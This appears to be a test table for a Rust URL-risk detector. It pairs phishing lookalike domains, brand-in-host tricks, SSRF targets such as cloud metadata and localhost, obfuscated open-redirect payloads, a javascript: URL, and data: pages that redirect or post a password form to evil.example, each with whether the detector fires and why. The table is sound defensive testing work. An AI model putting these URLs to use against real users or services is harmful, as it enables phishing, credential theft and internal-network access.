    ("lookalike-domain", "https://paypl.com/signin", Fires { at: "pl" }, "a letter of PayPal's name left out"),
    ("lookalike-domain", "https://www.bing.com/ck/a?!&&p=abc&u=a1aHR0cHM6Ly9wYXlwYTEuY29tL3NpZ25pbg&ntb=1", Fires { at: "a1aHR0cHM6Ly9wYXlwYTEuY29tL3NpZ25pbg" }, "paypa1.com behind Bing's click tracker"),
    ("lookalike-domain", "https://mandrillapp.com/track/click/30000001/paypa1.com?p=eyJzIjoiQWJDZEVmR2hJaktsTW5PcFFyU3RVdld4WXowIiwidiI6MSwicCI6IntcInVcIjozMDAwMDAwMSxcInZcIjoxLFwidXJsXCI6XCJodHRwczpcXFwvXFxcL3BheXBhMS5jb21cXFwvc2lnbmluXCIsXCJpZFwiOlwiMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWZcIn0ifQ", Fires { at: "eyJzIjoiQWJDZEVmR2hJaktsTW5PcFFyU3RVdld4WXowIiwidiI6MSwicCI6IntcInVcIjozMDAwMDAwMSxcInZcIjoxLFwidXJsXCI6XCJodHRwczpcXFwvXFxcL3BheXBhMS5jb21cXFwvc2lnbmluXCIsXCJpZFwiOlwiMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWZcIn0ifQ" }, "paypa1.com behind Mandrill's click tracking, its URL in JSON inside JSON"),
    ("lookalike-domain", "https://paypal.com/", Misses, "PayPal's own domain"),
    ("lookalike-domain", "https://paypal-community.com/", Misses, "a domain PayPal owns"),
    ("lookalike-domain", "https://ebey.com/", Misses, "four-letter names have too many innocent neighbours"),
    ("lookalike-domain", "https://www.finance.com/", Misses, "a common word one edit from a brand's name ('binance') is no misspelling"),
    ("lookalike-domain", "https://paypa1.net/signin", Fires { at: "1.net/signin" }, "an edit of PayPal's name under another suffix, beside the sign-in word (medium; low without it)"),
    ("brand-in-host", "https://www.paypal-status.com/product/production", Misses, "PayPal's own status site, one of its domains"),
    ("brand-in-host", "http://secure.runescape.com-rgb.top/", Fires { at: "secure.runescape.com" }, "a brand's domain glued by a hyphen to the registrable domain's own name (com-rgb.top)"),
    ("brand-in-host", "https://www.google.com/url?q=https://urldefense.proofpoint.com/v2/url?u%3Dhttps-3A__www.paypal.com.secure-2Dlogin.example.net_signin%26d%3DDw&sa=D", Fires { at: "paypal.com.secure" }, "Google's redirector around Proofpoint v2: on the bytes of its host, which Proofpoint writes as they are"),
    ("brand-in-host", "https://www.paypal.com.secure-login.example.net/", Fires { at: "paypal.com.secure" }, "PayPal's domain ahead of example.net, and the sign-in word beside it"),
    ("brand-in-host", "https://www.paypal.com.shop.example.net/", Fires { at: "paypal.com" }, "PayPal's domain ahead of example.net, no sign-in word"),
    ("brand-in-host", "https://paypallogin.com/", Fires { at: "paypallogin" }, "PayPal's token glued to a sign-in word, no hyphen between"),
    ("brand-in-host", "https://allegro-pay-verify.com/", Fires { at: "allegro-pay-verify" }, "a national marketplace's name (Allegro, Poland's) beside a sign-in word"),
    ("brand-in-host", "https://www.halifaxhealth.org/", Misses, "a city's name inside another word, not the bank's token"),
    ("brand-in-host", "http://secure.bankofamericasecuredalerts.com/", Fires { at: "secure.bankofamerica" }, "a bank's token glued to two words a phishing host is named with"),
    ("brand-in-host", "https://outlookindia.com/", Misses, "a brand's token inside a name with a word that is no phishing host's"),
    ("brand-in-host", "https://paypal-login-secure.example/", Fires { at: "paypal-login" }, "PayPal's name glued to words in another domain, the first a sign-in word"),
    ("brand-in-host", "https://login.microsoftonline.com/", Misses, "Microsoft's own sign-in host"),
    ("brand-in-host", "https://click.pstmrk.it/3s/www.paypal.com.secure-login.example.net/qzFR/1/x", Fires { at: "paypal.com.secure" }, "behind Postmark's click tracking, which writes its destination without a scheme: on its host's own bytes"),
    ("brand-in-host", "https://www.amazon.co.jp/", Misses, "Amazon's own country domain"),
    ("brand-in-host", "https://pineapple-shop.example/", Misses, "'apple' inside a word is no brand"),
    ("brand-in-host", "https://ww2.bancoestado.cl-q.pw/bancenlinea/index.php", Fires { at: "bancoestado.cl" }, "a national bank's name ahead of another domain (its own domain, bancoestado.cl, glued by a hyphen to that domain's first label)"),
    ("brand-in-host", "https://sucursalpersonas.transaccionesbancolombia.com/mua/USER", Misses, "a national bank's own sign-in host, under a domain that does not spell its token"),
    ("mapped-host", "https://ⓖⓞⓞⓖⓛⓔ.com/", Fires { at: "ⓖⓞⓞⓖⓛⓔ" }, "circled letters UTS #46 maps to google.com"),
    ("mapped-host", "https://ｐａｙｐａｌ.example/", Fires { at: "ｐａｙｐａｌ" }, "full-width letters"),
    ("mapped-host", "https://faß.de/", Fires { at: "ß" }, "IDNA2008 keeps the sharp s, IDNA2003 writes ss"),
    ("mapped-host", "https://bücher.de/", Misses, "an internationalized name UTS #46 leaves as written"),
    ("mapped-host", "https://BÜCHER.de/", Misses, "capitals are only case"),
    ("surrounding-junk", " http://x/", Fires { at: " " }, "a leading space"),
    ("surrounding-junk", "http://x/ ", Fires { at: " " }, "a trailing space"),
    ("surrounding-junk", "\thttp://x/", Fires { at: "\t" }, "a leading tab"),
    ("surrounding-junk", "http://x/%20", Misses, "an escaped space is part of the URL"),
    ("surrounding-junk", "<http://x/>", Fires { at: "<http://x/>" }, "RFC 3986's delimiters, as a mail client writes a link in plain text"),
    ("surrounding-junk", "\"http://x/\"", Fires { at: "\"http://x/\"" }, "double quotes delimit a URL too"),
    ("surrounding-junk", "<x>", Misses, "without a scheme inside, the brackets are the text"),
    ("surrounding-junk", "(http://x/)", Fires { at: "(http://x/)" }, "parentheses around a URL in prose"),
    ("surrounding-junk", "\"http://x/\",", Fires { at: "\"http://x/\"," }, "a quoted URL with a list's comma after it, as a ticket or a JSON array holds it"),
    ("surrounding-junk", "`http://x/`.", Fires { at: "`http://x/`." }, "Markdown's backticks, then the sentence's full stop"),
    ("surrounding-junk", "(x)", Misses, "without a scheme inside, the parentheses are the text"),
    ("surrounding-junk", "http://x/a_(b)", Misses, "parentheses inside a URL's path are its own"),
    ("internal-destination", "http://localhost:22/", Fires { at: "localhost" }, "loopback by name"),
    ("internal-destination", "jar:http://127.0.0.1!/", Fires { at: "http://127.0.0.1!/" }, "a jar: URL's archive, up to its '!/', is fetched by a Java client"),
    ("internal-destination", "http://0x7f.1/", Fires { at: "0x7f.1" }, "127.0.0.1 as a number"),
    ("internal-destination", "http://x.example/?u=http%3A%2F%2F169.254.169.254%2F", Fires { at: "http%3A%2F%2F169.254.169.254%2F" }, "the metadata endpoint in a parameter"),
    ("internal-destination", "http://localhost.example.com/", Misses, "a public name that starts with localhost"),
    ("internal-destination", "http://8.8.8.8/", Misses, "a public address"),
    ("internal-destination", "http://kubernetes.default.svc/api/v1/namespaces", Fires { at: "kubernetes.default.svc" }, "a Kubernetes service name"),
    ("internal-destination", "http://x.example/?u=http%3A%2F%2Fhost.docker.internal%3A2375%2F", Fires { at: "http%3A%2F%2Fhost.docker.internal%3A2375%2F" }, "Docker's host, carried"),
    ("internal-destination", "telnet://192.0.2.16:80/", Misses, "RFC 3986's example: documentation space"),
    ("internal-destination", "ldap://[2001:db8::7]/c=GB?objectClass?one", Misses, "IPv6 documentation space"),
    ("nesting-limit", "http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/https://paypa1.com/", Fires { at: "/https://paypa1.com/" }, "a URL nine levels down, where the unfolding stops at eight: said, not passed over"),
    ("nesting-limit", "http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/http://a.example/https://paypa1.com/", Misses, "eight levels are unfolded whole (the look-alike at the bottom is found)"),
    ("open-redirect", "https://victim.example/login?next=//evil.example/", Fires { at: "//evil.example/" }, "a scheme-relative URL to another site"),
    ("open-redirect", "https://victim.example//evil.example/", Fires { at: "//evil.example/" }, "a path that starts '//': a server echoing it as a redirect sends its visitor to evil.example"),
    ("open-redirect", "https://login.szn.cz/?service=email&return_url=https%3A%2F%2Femail.seznam.cz%2F", Misses, "Seznam's sign-in returning its visitor to its webmail on seznam.cz: one owner's two domains"),
    ("open-redirect", "https://slack-imgs.com/?c=1&o1=ro&url=https%3A%2F%2Fwww.example.org%2Flogo.png", Fires { at: "https%3A%2F%2Fwww.example.org%2Flogo.png" }, "Slack's image proxy fetches the image and shows it under its own name: shown (low), no redirect"),
    ("open-redirect", "https://id.atlassian.com/login?continue=https%3A%2F%2Fmyteam.atlassian.net%2Fwiki%2Fhome", Misses, "Atlassian's sign-in returning its visitor to a team's site on atlassian.net: one owner's two domains"),
    ("open-redirect", "https://about.google/intl/en/?continue=https://accounts.google.com/", Misses, "a site under Google's own top-level domain sending its visitor to another of Google's: one owner"),
    ("open-redirect", "https://victim.example//themes/mini/a.php", Misses, "a doubled slash before a folder, as templates write them: 'themes' names no site"),
    ("open-redirect", "https://github.com/login/oauth/authorize?client_id=abc&redirect_uri=https://vercel.com/cb", Fires { at: "https://vercel.com/cb" }, "an OAuth sign-in's return address, an address the app registered: shown (low), not the provider's open redirect"),
    ("open-redirect", "https://victim.example//rm.php?c=1", Misses, "nor does a file's name"),
    ("internal-destination", "https://victim.example//2130706433/", Fires { at: "//2130706433/" }, "127.0.0.1 as one number, after a path's doubled slash"),
    ("internal-destination", "https://victim.example//2013/05/post", Misses, "a year after a doubled slash is a folder, not an address"),
    ("internal-destination", "https://victim.example//0/", Fires { at: "//0/" }, "0.0.0.0 as one number, which reaches the machine itself"),
    ("open-redirect", "https://victim.example//evil.zip/", Fires { at: "//evil.zip/" }, ".zip is a top-level domain: a host, though files end in it too"),
    ("open-redirect", "https://victim.example//v2.0/api", Misses, "a version folder: a browser refuses v2.0 as a host (its last label is a number, its first none)"),
    ("open-redirect", "https://victim.example//login.do", Misses, "a Struts action: .do is a top-level domain, but after a doubled slash a script's"),
    ("open-redirect", "https://victim.example//evil.com.pl/", Fires { at: "//evil.com.pl/" }, "a name under .pl of more than two labels is a host, not a Perl script"),
    ("lookalike-domain", "https://web.archive.org/web/2020/paypa1.com/signin", Fires { at: "1" }, "the Wayback Machine's copy of a look-alike's page, its address written without a scheme (read as http://)"),
    ("lookalike-domain", "https://web.archive.org/web/2020/paypa1.com:80/signin", Fires { at: "1" }, "an archived address without a scheme, with a port as the Wayback Machine writes many"),
    ("lookalike-domain", "https://web.archive.org/web/2020/https%3A//paypa1.com/signin", Fires { at: "1" }, "an archived page's URL whose scheme's ':' is percent-encoded"),
    ("lookalike-domain", "https://web.archive.org/web/paypa1.com/signin", Fires { at: "1" }, "the latest capture of a page, its address with neither timestamp nor scheme"),
    ("lookalike-domain", "https://web.archive.org/web/paypa1.com?x", Fires { at: "1" }, "the latest capture's address with no path, a query after it"),
    ("lookalike-domain", "https://web.archive.org/web/p%61ypa1.com/", Fires { at: "1" }, "the latest capture's address with an escape in its name"),
    ("invalid-port", "https://web.archive.org/web/2020/example.com:99999/", Misses, "no port of a real address: the path is not read as an archived address"),
    ("open-redirect", "https://web.archive.org/web/2020/paypa1.com/signin", Misses, "an archived page's address, scheme or none, is shown from the archive: no visitor goes there"),
    ("open-redirect", "https://web.archive.org/web/20200101000000/https://evil.example/login", Misses, "the Wayback Machine's copy of the page, shown from the archive: no visitor goes to evil.example"),
    ("open-redirect", "https://app.example/#/login?redirect=https://evil.example/", Fires { at: "https://evil.example/" }, "a page's hash route: its parameters are read apart, and a page script that follows 'redirect' sends its visitors off-site"),
    ("open-redirect", "https://app.example/callback?id_token=eyJhbGciOiJSUzI1NiIsImtpZCI6ImsifQ.eyJpc3MiOiJodHRwczovL2FjY291bnRzLmdvb2dsZS5jb20iLCJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlLyIsInN1YiI6IjEifQ.c2lnbmF0dXJlc2lnbmF0dXJl", Misses, "a signed ID token whose issuer is another site: 'iss' and 'aud' identify, no one is sent there"),
    ("open-redirect", "https://app.example/cb#access_token=abc&token_type=Bearer&scope=https://www.googleapis.com/auth/drive", Misses, "an implicit flow's granted scopes, which Google writes as URLs: a scope names an API, no one is sent there"),
    ("open-redirect", "https://app.example/cb?code=x&iss=https%3A%2F%2Faccounts.google.com&error_uri=https://idp.example.org/errors/1", Misses, "an authorization response's issuer (RFC 9207) and error page (RFC 6749): they identify the provider and describe the error"),
    ("open-redirect", "https://app.example/cb?scope=openid&redirect_uri=https://evil.example/", Fires { at: "https://evil.example/" }, "beside a scope, the redirect URI is where the provider sends the visitor"),
    ("open-redirect", "https://href.li/?https://paypa1.com/signin?a=1&b=2", Fires { at: "https://paypa1.com/signin?a=1&b=2" }, "a URL written as the whole query, an anonymizing redirector's form: its own ? & = are the URL's"),
    ("lookalike-domain", "https://href.li/?https://paypa1.com/signin", Fires { at: "1" }, "a look-alike behind an anonymizing redirector, the URL the whole query"),
    ("open-redirect", "https://victim.example/login?next=javascript:alert(1)", Fires { at: "javascript:alert(1)" }, "a script URL"),
    ("open-redirect", "https://victim.example/login?next=<>//evil.example", Fires { at: "//evil.example" }, "an off-site URL once an HTML filter strips '<>'"),
    ("open-redirect", "https://victim.example/r?u=nigol/elpmaxe.live//:sptth", Fires { at: "nigol/elpmaxe.live//:sptth" }, "a URL written backwards"),
    ("open-redirect", "https://victim.example/r?u==4Wan9GbvUGbw1WY4VmLslmdl9yL6MHc0RHa", Fires { at: "=4Wan9GbvUGbw1WY4VmLslmdl9yL6MHc0RHa" }, "base64 written backwards"),
    ("open-redirect", "https://victim.example/r?u=%25u0068ttps://evil.example/", Fires { at: "%25u0068ttps://evil.example/" }, "a %u escape"),
    ("open-redirect", "https://victim.example/r#&#104;ttps&colon;//evil.example/", Fires { at: "&#104;ttps&colon;//evil.example/" }, "HTML character references"),
    ("open-redirect", "https://victim.example/r?u=bmlnb2wvZXZpbC5saXZlLy86c3B0dGg=", Fires { at: "bmlnb2wvZXZpbC5saXZlLy86c3B0dGg=" }, "base64 of a URL written backwards"),
    ("open-redirect", "https://victim.example/r?u=winddir:SSW", Misses, "text ending ':SSW' reads backwards as 'WSS:...': a scheme with no '//' read backwards is no URL"),
    ("open-redirect", "https://victim.example/r?u=d2luZCBkaXI6U1NX", Misses, "the same in base64 ('wind dir:SSW')"),
    ("open-redirect", "https://victim.example/r?u=olleh//:a", Misses, "a one-letter scheme read backwards is no URL"),
    // A data: URL's body is the page a browser renders from it: where its
    // script, refresh, form or frame sends the visitor is where it leads.
    ("open-redirect", "data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==", Fires { at: "PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==" }, "a data: page's location= in base64: the whole body carries it"),
    ("open-redirect", "data:text/html;base64,PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=", Fires { at: "PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=" }, "a data: page's meta refresh in base64"),
    ("open-redirect", "data:text/html,%3Cmeta%20http-equiv=refresh%20content=%220;url=https://evil.example/%22%3E", Fires { at: "https://evil.example/" }, "a meta refresh in a percent-encoded body, pointed at exactly"),
    ("open-redirect", "data:text/html,%3Cform%20action=%22https%3A%2F%2Fevil.example%2Fcollect%22%20method=post%3E%3Cinput%20name=password%3E", Fires { at: "https%3A%2F%2Fevil.example%2Fcollect" }, "a credential form posting to another site, its escapes included"),
    ("internal-destination", "data:text/html,%3Ciframe%20src=%22http://169.254.169.254/latest/meta-data/%22%3E", Fires { at: "http://169.254.169.254/latest/meta-data/" }, "a data: page framing the metadata endpoint"),
    ("open-redirect", "https://victim.example/r?next=data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==", Fires { at: "data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIjwvc2NyaXB0Pg==" }, "a data: page carried in a parameter"),
    ("open-redirect", "data:text/html,%3Cp%3EYour%20parcel%20is%20on%20its%20way%3C/p%3E", Misses, "a data: page that links nowhere (dangerous-scheme says what it is)"),
    ("open-redirect", "data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3Ca%20href=%22https://evil.example/%22%3E", Fires { at: "https://evil.example/" }, "an SVG page's link to another site"),
    ("open-redirect", "data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20xmlns:xlink=%22http://www.w3.org/1999/xlink%22%3E", Misses, "XML namespace names are written as URLs but lead nowhere"),
    ("open-redirect", "data:text/html,%3C!DOCTYPE%20html%20SYSTEM%20%22http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd%22%3E%3Cp%3Ex", Misses, "a DTD's system identifier is no link"),
    // A payload's text carries the URLs it holds among other text.
    ("open-redirect", "https://victim.example/cb?state=eyJyZWRpcmVjdCI6Imh0dHBzOi8vZXZpbC5leGFtcGxlL3gifQ==", Fires { at: "eyJyZWRpcmVjdCI6Imh0dHBzOi8vZXZpbC5leGFtcGxlL3gifQ==" }, "base64 JSON with a URL in a value"),
    ("open-redirect", "https://victim.example/r?m=Q29udGludWUgYXQgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgbm93", Fires { at: "Q29udGludWUgYXQgaHR0cHM6Ly9ldmlsLmV4YW1wbGUgbm93" }, "base64 prose with a URL mid-text"),
    ("open-redirect", "https://victim.example/r?m=Q29udGludWUgYXQgdGhlIGZyb250IGRlc2s=", Misses, "base64 prose with no URL"),
    ("open-redirect", "https://victim.example/login?next=/account", Misses, "a same-site path"),
    ("open-redirect", "https://accounts.google.com/?continue=https://mail.google.com/", Misses, "the same registrable domain"),
    ("open-redirect", "https://login.microsoftonline.com/common/oauth2/authorize?redirect_uri=https%3A%2F%2Fwww.office.com%2F", Misses, "one brand's own other domain"),
    ("open-redirect", "https://www.facebook.com/login.php?next=https%3A%2F%2Fwww.instagram.com%2Faccounts%2Fedit%2F", Misses, "a sister brand's domain: one owner has both"),
    ("open-redirect", "https://www.instagram.com/accounts/login/?next=https%3A%2F%2Fevil.example%2F", Fires { at: "https%3A%2F%2Fevil.example%2F" }, "an owned brand's page sending its visitors to another owner's site"),
    ("open-redirect", "https://view.officeapps.live.com/op/view.aspx?src=https%3A%2F%2Fevil.example%2Finvoice.docx", Fires { at: "https%3A%2F%2Fevil.example%2Finvoice.docx" }, "a viewer shows another site's document under its own name: low"),
    ("open-redirect", "https://docs.google.com/viewer?url=%2F%5Cevil.example%2Fx.pdf", Fires { at: "%2F%5Cevil.example%2Fx.pdf" }, "a viewer's document written to slip past a check: high"),
    ("open-redirect", "https://accounts.google.com/o/saml2/idp?idpid=C01&SAMLRequest=fZJNT8Mw&RelayState=https%3A%2F%2Fapp.example.com%2F", Fires { at: "https%3A%2F%2Fapp.example.com%2F" }, "a SAML request's RelayState, handed back to the service provider that sent it: shown (low)"),
    ("open-redirect", "https://steamcommunity.com/openid/login?openid.mode=checkid_setup&openid.return_to=https%3A%2F%2Fexample.com%2Fauth", Fires { at: "https%3A%2F%2Fexample.com%2Fauth" }, "an OpenID 2.0 request's return address: shown (low)"),
    ("open-redirect", "https://www.facebook.com/v2.12/plugins/like.php?href=https%3A%2F%2Fexample.com%2F&layout=button_count", Misses, "a like button under a version of Facebook's API names the page liked"),
    ("open-redirect", "https://www.pinterest.com/pin/create/button/?url=https%3A%2F%2Fexample.com&media=https%3A%2F%2Fexample.com%2Fimg.jpg", Misses, "a pin button names the page and its image"),
    ("open-redirect", "https://www.paypal.com/signin?returnUri=https%3A%2F%2Fevil.example%2F", Fires { at: "https%3A%2F%2Fevil.example%2F" }, "a brand's sign-in page sending its visitors to another owner's site"),
    ("deceptive-host", "https://bbc.co.uk.account-check.example/", Fires { at: "bbc.co.uk.account-check.example" }, "another site's name ahead of the real one"),
    ("deceptive-host", "https://paypal.com.account-check.example/", Misses, "a brand's domain ahead: brand-in-host says it"),
    ("deceptive-host", "https://evil.example#@good.example", Fires { at: "#@good.example" }, "a fragment that mimics userinfo"),
    ("deceptive-host", "https://portal.azure.com/#@tenant.onmicrosoft.com/resource/subscriptions", Misses, "a name of the host's own brand after it (Azure's portal links) shows no other site"),
    ("deceptive-host", "https://good.example?.evil.example/login", Fires { at: "?.evil.example/login" }, "a query that goes on with the host's name"),
    ("deceptive-host", "https://login.yahoo.com/?.src=ym&.done=https%3A%2F%2Fmail.yahoo.com%2F", Misses, "Yahoo's own query keys start with '.': after a '/', and a key, not a host's name"),
    ("deceptive-host", "https://www.bbc.co.uk/", Misses, "www ahead of the real name"),
    ("deceptive-host", "https://www.secure.indeed.com.account-login.mac-sale.example/", Fires { at: "www.secure.indeed.com.account-login.mac-sale.example" }, "a known site's domain among the labels ahead, more labels after it"),
    ("deceptive-host", "https://www.shop.nl.account.evil.example/", Misses, "a name no known site has among the labels ahead, under a country suffix"),
    ("deceptive-host", "https://apple.com_support.example/", Fires { at: "apple.com_support.example" }, "a suffix glued to the real name by '_'"),
    ("deceptive-host", "https://my_host.example.com/", Misses, "an underscore in a name glues no suffix"),
    ("two-urls", "0://evil.com:80;http://google.com:80/", Fires { at: "0://evil.com:80;http://google.com:80/" }, "an invalid scheme, then a second URL (Orange Tsai)"),
    ("two-urls", "http://evil.com:80;http://google.com/", Fires { at: "http://evil.com:80;http://google.com/" }, "a second scheme inside the first authority"),
    ("two-urls", "http://evil.com/http://google.com/", Misses, "a URL in the path is one the first carries (open-redirect), not a second authority"),
    ("two-urls", "1password://x/", Misses, "no second URL after the invalid scheme"),
    ("deceptive-host", "https://www.cl.cam.ac.uk/", Misses, "department labels under a country suffix"),
    // Where a phishing page is put, and how its link travels.
    ("shared-hosting", "https://storage.googleapis.com/bucket/login.html", Fires { at: "storage.googleapis.com/bucket/login" }, "a sign-in page in a public storage bucket"),
    ("shared-hosting", "https://secure-update.web.app/", Fires { at: "secure-update.web.app" }, "sign-in words in a site on Firebase Hosting"),
    ("shared-hosting", "https://pp-nxtonline-verfy-acct.000webhostapp.com/", Fires { at: "pp-nxtonline-verfy-acct.000webhostapp.com" }, "a sign-in word misspelt in the account's name, a letter left out"),
    ("shared-hosting", "https://blockchain-logiin.webflow.io/", Fires { at: "blockchain-logiin.webflow.io" }, "a letter doubled"),
    ("shared-hosting", "http://verificati0n.webs.com/", Fires { at: "verificati0n.webs.com" }, "a digit for the letter it looks like"),
    ("shared-hosting", "https://baking-recipes.blogspot.com/", Misses, "a word one slip from a sign-in word that is a word of its own (baking, banking) is not read as it"),
    ("shared-hosting", "https://acme.sharepoint.com/_forms/default.aspx?ReturnUrl=%2f_layouts%2f15%2fAuthenticate.aspx", Misses, "SharePoint's own sign-in page, the same on every tenant: its words are the service's"),
    ("shared-hosting", "http://amazon-clone-peach-eta.vercel.app/", Fires { at: "amazon-clone-peach-eta.vercel.app" }, "a deploy on Vercel named after a brand"),
    ("shared-hosting", "https://zimbra1.000webhostapp.com/webmail/server.htm", Fires { at: "zimbra1.000webhostapp.com/webmail" }, "a webmail sign-in page on free web hosting"),
    ("shared-hosting", "https://mybox.duckdns.org/webmail/", Misses, "a home mail server's own webmail on dynamic DNS"),
    ("shared-hosting", "https://paypal-login.duckdns.org/", Fires { at: "paypal-login.duckdns.org" }, "a dynamic DNS name anyone can take, named after a brand"),
    ("shared-hosting", "https://my-nas.duckdns.org/photos/", Misses, "someone's own machine under dynamic DNS, with no lure"),
    ("brand-in-path", "https://login.contoso.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?p=B2C_1_signin&client_id=90c0fe63", Misses, "an Azure AD B2C tenant's sign-in on its custom domain, under the tenant's name by Microsoft's design"),
    ("brand-in-path", "https://evil.example/contoso.onmicrosoft.com/login.php", Fires { at: "contoso.onmicrosoft.com/login" }, "a tenant's name over a sign-in page that is no B2C route"),
    ("brand-in-path", "http://x.example/smop/Absa%20Online%20-%20PROFILE.htm", Fires { at: "Absa%20Online%20-%20PROFILE.htm" }, "a page saved under a bank's page title"),
    ("brand-in-path", "http://x.example/blog/PayPal%20fees%20explained.html", Misses, "a post about a brand, titled in words"),
    ("brand-in-path", "https://pkg.go.dev/github.com/AzureAD/microsoft-authentication-library-for-go/apps/public", Fires { at: "github.com" }, "a Go module's import path names its repository's host: shown (low), the repository's name no sign-in"),
    ("brand-in-path", "https://uit.stanford.edu/service/office365/login", Misses, "a university's IT site on signing in to a service it runs, on a suffix only institutions register in"),
    ("brand-in-path", "https://www.ed.ac.uk/information-services/computing/desktop-personal/microsoft-365/sign-in", Misses, "and its pages under the services' folders"),
    ("brand-in-path", "https://www.physics.example.edu/~smith/office365/login", Fires { at: "office365/login" }, "but a brand's folder and a sign-in elsewhere on such a site, where kits are dropped, still fires"),
    ("brand-in-path", "https://x.example/www.bancointer.com.br-cadastro/login", Fires { at: "www.bancointer.com.br-cadastro/login" }, "a brand's domain glued by a hyphen to the words after it, then a sign-in"),
    ("brand-in-path", "https://x.example/www.shop.example-deals/login", Misses, "a domain cut at a hyphen that is no known site's"),
    ("brand-in-path", "http://x.example/ca/wetransfer/wetransfer", Fires { at: "wetransfer/wetransfer" }, "a brand's folder unpacked into one of its own name"),
    ("brand-in-path", "http://shop.example/modules/paypal/paypal.php", Misses, "a shop's payment module, its page named for the brand"),
    ("shared-hosting", "https://targobank-32410.firebaseapp.com/", Fires { at: "targobank-32410.firebaseapp.com" }, "a regional bank's name on Firebase Hosting"),
    ("brand-in-host", "https://banking.postbank.de/rai/login", Misses, "a German bank's own sign-in host"),
    ("brand-in-host", "https://www.berliner-sparkasse.de/de/home/onlinebanking/online-banking-login.html", Fires { at: "sparkasse" }, "a savings bank named for its place ahead of the group's name: shown (low), not high for its own sign-in page"),
    ("brand-in-host", "https://www.ostsaechsische-sparkasse-dresden.de/de/home.html", Fires { at: "sparkasse" }, "a savings bank named for its region and its city around the group's name"),
    ("brand-in-host", "https://login-sparkasse.de/", Fires { at: "login-sparkasse" }, "a sign-in word where a member's place would be"),
    ("shared-hosting", "https://paypal.github.io/PayPal-Android-SDK/login.html", Misses, "the brand's own GitHub organisation's pages, which the brand table lists as its domain"),
    ("shared-hosting", "https://paypal-sign-in.github.io/", Fires { at: "paypal-sign-in.github.io" }, "another account that shows the brand's name beside a sign-in"),
    ("shared-hosting", "https://storage.googleapis.com/bucket/index.html", Fires { at: "storage.googleapis.com/bucket/index.html" }, "a web page served from a storage bucket"),
    ("shared-hosting", "https://ipfs.io/ipfs/bafkreibnx6txq5gfkki5qbabqzaclgb2a2nw7bql4w5o5rtpi2v4h5jmeq", Fires { at: "ipfs.io/ipfs/bafkreibnx6txq5gfkki5qbabqzaclgb2a2nw7bql4w5o5rtpi2v4h5jmeq" }, "a bare IPFS content address, which opens the page it holds"),
    ("shared-hosting", "https://storage.googleapis.com/bucket/report.pdf", Misses, "a document in a storage bucket, not a page"),
    ("shared-hosting", "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/1.png", Misses, "an image inside an IPFS folder"),
    ("shared-hosting", "https://myhome.duckdns.org:8123/auth/login", Misses, "a home server's own sign-in page under dynamic DNS: only a brand's name is a lure there"),
    ("shared-hosting", "https://contoso-my.sharepoint.com/personal/user_contoso_com/_layouts/15/onedrive.aspx?id=%2Fpersonal", Misses, "SharePoint's own application page on a tenant: onedrive.aspx is Microsoft's, not the tenant's"),
    ("shared-hosting", "https://evil-my.sharepoint.com/sites/office365-login/_layouts/15/start.aspx", Fires { at: "evil-my.sharepoint.com/sites/office365-login" }, "a tenant's site named after a brand, ahead of SharePoint's own pages"),
    ("shared-hosting", "https://public-api.wordpress.com/oauth2/authorize?client_id=1234&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&response_type=code", Misses, "WordPress.com's own API host: its site names hold no hyphen"),
    ("shared-hosting", "https://myblog.wordpress.com/wp-login.php?redirect_to=https%3A%2F%2Fmyblog.wordpress.com%2Fwp-admin%2F", Misses, "the sign-in WordPress.com serves on every site"),
    ("shared-hosting", "https://paypalsecure.wordpress.com/login/", Fires { at: "paypalsecure.wordpress.com/login" }, "a site on WordPress.com named after a brand, with a sign-in page"),
    ("shared-hosting", "https://s3.eu-central-1.amazonaws.com/my-bucket/INV-0042.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEXAMPLE%2F20240101%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Security-Token=abc&X-Amz-Signature=abcdef", Misses, "a signed link to a bucket's file: the signature's own keys name credentials"),
    ("shared-hosting", "https://s3.amazonaws.com/bucket/login.html?X-Amz-Credential=x", Fires { at: "s3.amazonaws.com/bucket/login" }, "a sign-in page in a bucket, signed or not"),
    ("open-redirect", "https://steamcommunity.com/linkfilter/?u=https%3A%2F%2Fwww.example.com", Misses, "Steam's link filter warns the visitor leaving Steam; the site behind it is judged in turn"),
    ("open-redirect", "https://acme.eu.auth0.com/login?state=hKFo2SBxYz&client=AbCdEfGhIjKl&protocol=oauth2&redirect_uri=https%3A%2F%2Fapp.acme.com%2Fcallback", Fires { at: "https%3A%2F%2Fapp.acme.com%2Fcallback" }, "Auth0's sign-in page names its app 'client': the return is shown (low), not an open redirect"),
    ("open-redirect", "https://www.amazon.com/ap/signin?openid.return_to=https%3A%2F%2Fwww.amazon.com%2F&openid.mode=checkid_setup&openid.ns.pape=http%3A%2F%2Fspecs.openid.net%2Fextensions%2Fpape%2F1.0", Misses, "an OpenID 2.0 extension's namespace names a specification"),
